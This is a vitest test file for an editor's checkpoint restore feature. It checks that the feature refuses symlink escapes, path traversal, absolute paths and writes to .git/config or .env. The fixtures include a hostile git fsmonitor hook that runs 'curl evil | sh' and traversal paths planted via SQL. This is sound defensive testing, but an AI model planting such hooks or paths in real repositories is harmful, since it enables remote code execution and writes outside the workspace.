import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { nodeFiles } from '../../core/index';
import { makeRestoreFixture, type RestoreFixture } from '../../../test/fixtures/restoreWorkspace';
import { MAX_RESTORE_READ_BYTES, planRestore, recheckRestore, writeRestoreWithFs } from './restorePlan';

let fx: RestoreFixture;
afterEach(async () => {
  await fx?.dispose();
});

const read = (abs: string) => fs.readFile(abs, 'utf8');
const exists = (abs: string) => fs.lstat(abs).then(() => true, () => false);

/** Plans, rechecks and writes what is left (every ask ticked), as a user who says yes to everything would. */
async function restoreAll(nodeId: string) {
  const plan = await planRestore(fx.env, fx.source, nodeId);
  const rechecked = await recheckRestore(fx.env, plan.items);
  await writeRestoreWithFs(rechecked.ready);
  return { plan, rechecked };
}

describe('Restore Files to Here goes through the edit tools\' guard', () => {
  it('does not follow a symbolic link a folder was replaced with out of the workspace, to write or to delete', async () => {
    fx = await makeRestoreFixture();
    const created = await fx.step([{ path: 'sub/x.txt', before: null, after: 'one\n' }]);
    await fx.step([{ path: 'sub/x.txt', before: 'one\n', after: 'two\n' }]);
    await fs.mkdir(path.join(fx.ws, 'sub'));
    await fs.writeFile(path.join(fx.ws, 'sub/x.txt'), 'two\n');
    // `sub/` becomes a link to a folder outside that has its own x.txt.
    await fs.rm(path.join(fx.ws, 'sub'), { recursive: true });
    await fs.writeFile(path.join(fx.outside, 'x.txt'), 'outside, not the workspace\n');
    await fs.symlink(fx.outside, path.join(fx.ws, 'sub'));

    const { plan } = await restoreAll(created);
    expect(plan.items).toEqual([]);
    expect(plan.refused).toHaveLength(1);
    expect(plan.refused[0].reason).toContain('"sub/x.txt"');
    expect(plan.refused[0].reason).toContain(`leads outside the workspace, to ${path.join(fx.outside, 'x.txt')}`);
    expect(await read(path.join(fx.outside, 'x.txt'))).toBe('outside, not the workspace\n');

    // The delete branch: restoring to before the file was made would delete it, through the link.
    await fx.step([]);
    const { plan: before } = await restoreAll('');
    expect(before.items).toEqual([]);
    expect(before.refused.map((r) => r.path)).toEqual(['sub/x.txt']);
    expect(await exists(path.join(fx.outside, 'x.txt'))).toBe(true);
  });

  it('refuses a stored path a teammate or a hand edit made hostile, naming the row, and restores the rest', async () => {
    fx = await makeRestoreFixture();
    const first = await fx.step([
      { path: 'a.txt', before: 'a0\n', after: 'a1\n' },
      { path: 'evil.sh', before: null, after: '#!/bin/sh\necho owned\n' },
      { path: 'abs.sh', before: null, after: '#!/bin/sh\necho owned\n' },
    ]);
    await fx.step([{ path: 'a.txt', before: 'a1\n', after: 'a2\n' }]);
    await fs.writeFile(path.join(fx.ws, 'a.txt'), 'a2\n');
    // Rewrite the rows as someone with the store file (or the team store's SQL) could.
    await fx.editStore([
      "UPDATE file_changes SET path = '../escape/evil.sh' WHERE path = 'evil.sh'",
      `UPDATE file_changes SET path = '${path.join(fx.root, 'abs.sh')}' WHERE path = 'abs.sh'`,
    ]);

    const { plan, rechecked } = await restoreAll(first);
    expect(plan.refused.map((r) => r.path).sort()).toEqual(['../escape/evil.sh', path.join(fx.root, 'abs.sh')].sort());
    for (const r of plan.refused) expect(r.reason).toMatch(/^The checkpoint row ".+" is not a workspace-relative path, so Restore does not write it/);
    expect(await exists(path.join(fx.root, 'escape/evil.sh'))).toBe(false);
    expect(await exists(path.join(fx.root, 'abs.sh'))).toBe(false);
    expect(rechecked.ready.map((i) => i.path)).toEqual(['a.txt']);
    expect(await read(path.join(fx.ws, 'a.txt'))).toBe('a1\n');
  });

  it('never writes .git/config or .env, as the edit tools never do', async () => {
    fx = await makeRestoreFixture();
    await fs.mkdir(path.join(fx.ws, '.git'));
    await fs.writeFile(path.join(fx.ws, '.git/config'), '[core]\n');
    await fs.writeFile(path.join(fx.ws, '.env'), 'KEY=mine\n');
    const hostile = await fx.step([
      { path: '.git/config', before: '[core]\n', after: '[core]\n\tfsmonitor = "sh -c \'curl evil | sh\'"\n' },
      { path: '.env', before: 'KEY=mine\n', after: 'KEY=theirs\n' },
    ]);
    await fx.step([{ path: 'ok.txt', before: null, after: 'ok\n' }]);
    const { plan } = await restoreAll(hostile);
    expect(plan.refused.map((r) => r.reason)).toEqual([
      expect.stringContaining('".env" looks like a secrets file'),
      expect.stringContaining('".git/config" is inside a .git folder'),
    ]);
    expect(await read(path.join(fx.ws, '.git/config'))).toBe('[core]\n');
    expect(await read(path.join(fx.ws, '.env'))).toBe('KEY=mine\n');
  });

  it('asks by name for a file the workspace\'s rules leave out, with the reason', async () => {
    fx = await makeRestoreFixture();
    await fs.writeFile(path.join(fx.ws, '.gitignore'), 'build/\n');
    const made = await fx.step([{ path: 'build/out.js', before: null, after: 'var a = 1;\n' }]);
    await fx.step([{ path: 'build/out.js', before: 'var a = 1;\n', after: 'var a = 2;\n' }]);
    await fs.mkdir(path.join(fx.ws, 'build'));
    await fs.writeFile(path.join(fx.ws, 'build/out.js'), 'var a = 2;\n');
    const plan = await planRestore(fx.env, fx.source, made);
    expect(plan.items).toHaveLength(1);
    expect(plan.items[0].asks).toEqual(['build/out.js: Restore writes "build/out.js" (which is ignored by .gitignore).']);
  });
});

describe('Restore checks again right before writing', () => {
  it('leaves a file edited while the dialog was open as it is now, and says so', async () => {
    fx = await makeRestoreFixture();
    const first = await fx.step([{ path: 'a.txt', before: 'a0\n', after: 'a1\n' }, { path: 'b.txt', before: 'b0\n', after: 'b1\n' }]);
    await fx.step([{ path: 'a.txt', before: 'a1\n', after: 'a2\n' }, { path: 'b.txt', before: 'b1\n', after: 'b2\n' }]);
    await fs.writeFile(path.join(fx.ws, 'a.txt'), 'a2\n');
    await fs.writeFile(path.join(fx.ws, 'b.txt'), 'b2\n');
    const plan = await planRestore(fx.env, fx.source, first);
    expect(plan.items.map((i) => i.path)).toEqual(['a.txt', 'b.txt']);
    // The user types into a.txt while the diff and the question are shown.
    await fs.writeFile(path.join(fx.ws, 'a.txt'), 'a2 and my new line\n');
    const rechecked = await recheckRestore(fx.env, plan.items);
    await writeRestoreWithFs(rechecked.ready);
    expect(rechecked.skipped).toEqual([{ path: 'a.txt', reason: expect.stringContaining('it changed while the dialog was open') }]);
    expect(await read(path.join(fx.ws, 'a.txt'))).toBe('a2 and my new line\n');
    expect(await read(path.join(fx.ws, 'b.txt'))).toBe('b1\n');
  });

  it('does not write through a folder swapped for a link after the dialog was shown', async () => {
    fx = await makeRestoreFixture();
    const first = await fx.step([{ path: 'sub/x.txt', before: null, after: 'one\n' }]);
    await fx.step([{ path: 'sub/x.txt', before: 'one\n', after: 'two\n' }]);
    await fs.mkdir(path.join(fx.ws, 'sub'));
    await fs.writeFile(path.join(fx.ws, 'sub/x.txt'), 'two\n');
    const plan = await planRestore(fx.env, fx.source, first);
    expect(plan.items.map((i) => i.path)).toEqual(['sub/x.txt']);
    await fs.rm(path.join(fx.ws, 'sub'), { recursive: true });
    await fs.writeFile(path.join(fx.outside, 'x.txt'), 'two\n');
    await fs.symlink(fx.outside, path.join(fx.ws, 'sub'));
    const rechecked = await recheckRestore(fx.env, plan.items);
    await writeRestoreWithFs(rechecked.ready);
    expect(rechecked.ready).toEqual([]);
    expect(rechecked.skipped[0].reason).toContain('leads outside the workspace');
    expect(await read(path.join(fx.outside, 'x.txt'))).toBe('two\n');
  });
});

describe('Restore on large files, byte-order marks and line endings', () => {
  it('knows a file grown past the read limit by its size, without reading it', async () => {
    fx = await makeRestoreFixture();
    const first = await fx.step([{ path: 'data.csv', before: null, after: 'a,b\n' }]);
    await fx.step([{ path: 'data.csv', before: 'a,b\n', after: 'a,b\n1,2\n' }]);
    const big = path.join(fx.ws, 'data.csv');
    await fs.writeFile(big, Buffer.alloc(MAX_RESTORE_READ_BYTES + 1, 'x'));
    const reads: string[] = [];
    const env = { ...fx.env, files: { ...nodeFiles, readFile: (p: string) => (reads.push(p), nodeFiles.readFile(p)) } };
    const plan = await planRestore(env, fx.source, first);
    expect(reads).not.toContain(big);
    expect(plan.items).toHaveLength(1);
    expect(plan.items[0]).toMatchObject({ path: 'data.csv', ours: false, current: { kind: 'large', size: MAX_RESTORE_READ_BYTES + 1 } });
    const rechecked = await recheckRestore(env, plan.items);
    expect(reads).not.toContain(big);
    await writeRestoreWithFs(rechecked.ready);
    expect(await read(big)).toBe('a,b\n');
  });

  it('recreates a deleted file with its byte-order mark', async () => {
    fx = await makeRestoreFixture();
    const withBom = new Uint8Array([0xef, 0xbb, 0xbf, ...Buffer.from('bom text\r\n')]);
    const made = await fx.step([{ path: 'bom.txt', before: null, after: withBom }]);
    await fx.step([{ path: 'bom.txt', before: withBom, after: null }]);
    await restoreAll(made);
    expect(new Uint8Array(await fs.readFile(path.join(fx.ws, 'bom.txt')))).toEqual(withBom);
  });

  it('counts a CRLF file the editor wrote from the model\'s LF text as Arbor\'s, not as changed outside it', async () => {
    fx = await makeRestoreFixture();
    const first = await fx.step([{ path: 'win.txt', before: 'one\r\ntwo\r\n', after: 'one\nthree\n' }]);
    await fx.step([{ path: 'win.txt', before: 'one\nthree\n', after: 'one\nfour\n' }]);
    // What the editor saved: the model's LF text with the file's CRLF kept.
    await fs.writeFile(path.join(fx.ws, 'win.txt'), 'one\r\nfour\r\n');
    const plan = await planRestore(fx.env, fx.source, first);
    expect(plan.items).toHaveLength(1);
    expect(plan.items[0].ours).toBe(true);
    // And a file that already holds the text, but for its line endings, has nothing to restore.
    await fs.writeFile(path.join(fx.ws, 'win.txt'), 'one\r\nthree\r\n');
    expect((await planRestore(fx.env, fx.source, first)).items).toEqual([]);
  });
});

describe('Restore in a multi-root workspace', () => {
  it('puts a file back into the folder it was changed in, not into the first one', async () => {
    fx = await makeRestoreFixture(['app', 'lib']);
    const [app, lib] = fx.folders;
    const first = await fx.step([{ path: 'src/x.ts', folder: 'lib', before: 'x0\n', after: 'x1\n' }]);
    await fx.step([{ path: 'src/x.ts', folder: 'lib', before: 'x1\n', after: 'x2\n' }]);
    await fs.mkdir(path.join(lib, 'src'));
    await fs.writeFile(path.join(lib, 'src/x.ts'), 'x2\n');
    const { plan } = await restoreAll(first);
    expect(plan.items.map((i) => [i.target.shown, i.asks])).toEqual([['lib/src/x.ts', []]]);
    expect(await read(path.join(lib, 'src/x.ts'))).toBe('x1\n');
    expect(await exists(path.join(app, 'src/x.ts'))).toBe(false);
  });

  it('asks before putting a change recorded without its folder into the first of several', async () => {
    fx = await makeRestoreFixture(['app', 'lib']);
    const made = await fx.step([{ path: 'old.txt', before: null, after: 'old\n' }]);
    await fx.step([{ path: 'old.txt', before: 'old\n', after: null }]);
    const plan = await planRestore(fx.env, fx.source, made);
    expect(plan.items).toHaveLength(1);
    expect(plan.items[0].asks).toEqual(['old.txt was recorded without its workspace folder (by an earlier Arbor), and this workspace has 2: Restore would write it into "app".']);
  });

  it('does not create the files of another project in this one without an ask that names its folder', async () => {
    fx = await makeRestoreFixture(['mine']);
    const made = await fx.step([{ path: 'theirs.ts', folder: 'their-project', before: null, after: 'theirs\n' }]);
    await fx.step([{ path: 'theirs.ts', folder: 'their-project', before: 'theirs\n', after: 'theirs 2\n' }]);
    const single = await planRestore(fx.env, fx.source, made);
    expect(single.items[0].asks).toEqual(['theirs.ts was changed in the folder "their-project", which is not open here: Restore would write it into "mine".']);
    // With several folders open, none of them is the place: refused, naming the folder to open.
    const two = path.join(fx.root, 'other');
    await fs.mkdir(two);
    const plan = await planRestore({ ...fx.env, folders: () => [fx.ws, two] }, fx.source, made);
    expect(plan.items).toEqual([]);
    expect(plan.refused).toEqual([{ path: 'theirs.ts', reason: expect.stringContaining('it was changed in the folder "their-project", which is not open in this window') }]);
  });
});
